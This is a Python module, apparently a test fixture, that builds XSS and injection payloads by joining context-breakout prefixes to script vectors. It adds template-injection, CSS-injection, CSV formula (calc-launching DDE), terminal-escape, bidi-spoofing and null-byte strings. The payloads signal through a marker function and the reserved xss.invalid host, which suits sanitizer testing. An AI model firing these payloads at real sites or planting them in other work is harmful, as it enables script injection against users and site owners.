"""What hostile devices and files say in the hope of becoming markup.

Every payload calls ``ran`` or asks for an address under ``xss.invalid`` when it comes alive.
"""

from __future__ import annotations

from itertools import product

BREAKOUTS = (
    "",  # text
    '">',  # an attribute in double quotes
    "'>",  # in single quotes
    " x=",  # without quotes
    "--><!--x-->",  # a comment
    "]]>",  # a CDATA section
    "</script>",
    "</style>",
    "</title>",
    "</textarea></template></select></noscript>",
    "</svg></math></table></details></main>",
    '"}]}</div>',  # JSON inside an attribute
    "&quot;&gt;",  # the same, escaped beforehand
    "\\u003e\\x3e",  # escapes of a script's strings
)
"""What ends the place that a text stands in."""

VECTORS = (
    "<script>ran()</script>",
    "<script src=//xss.invalid/s></script>",
    "<img src=x onerror=ran()>",
    "<img src=//xss.invalid/i>",
    "<svg onload=ran()></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<object data=//xss.invalid/o></object>",
    "<link rel=stylesheet href=//xss.invalid/c>",
    "<style>@import '//xss.invalid/f';</style>",
    "<base href=//xss.invalid/>",
    "<meta http-equiv=refresh content='0;url=//xss.invalid/m'>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>x</details>",
    "<a href=javascript:ran() id=clickme>x</a>",
    "<x style=animation-name:x onanimationstart=ran()>x</x>",
)
"""What would come alive outside of it."""

SPECIALS = (
    '" onmouseover=ran() x="',
    "' onfocus=ran() autofocus tabindex=0 x='",
    "` onerror=ran() `",
    "javascript:ran()",
    "data:text/html,<script>ran()</script>",
    "vbscript:ran()",
    "';ran();//",
    '";ran();//',
    "\\';ran();//",
    "`${ran()}`",
    "{{ran()}}{{7*7}}${7*7}<%=7*7%>#{7*7}",
    "{0.__class__.__mro__}%(x)s%s%n",
    "}} body{background:url(//xss.invalid/u)}",
    "red;background-image:url(//xss.invalid/b)",
    "expression(ran())",
    "\\0041 */ } * { color: red } @import '//xss.invalid/i'; /*",
    "<scr\x00ipt>ran()</scr\x00ipt>",
    "<\x00script>ran()</script>",
    "\x1b]0;owned\x07\x1b[31mred\x1b[2J",
    "\r\n\r\n<script>ran()</script>",
    "\u2028ran()\u2029",
    "\u202e)(nar:tpircsavaj\u202c",
    "\ufeff<script>ran()</script>",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "&amp;lt;script&amp;gt;ran()",
    "<!--[if IE]><script>ran()</script><![endif]-->",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran()</x:script>",
    "<plaintext>",
    "<!-- ",
    "<textarea>",
    "<img src='//xss.invalid/dangling?",
    "<form action=//xss.invalid/f><button>x",
    "__proto__",
    "=cmd|' /C calc'!A0",
    "a" * 5000 + "<script>ran()</script>",
)
"""What needs no breaking out, or aims at something else."""

PAYLOADS = (*(end + vector for end, vector in product(BREAKOUTS, VECTORS)), *SPECIALS)
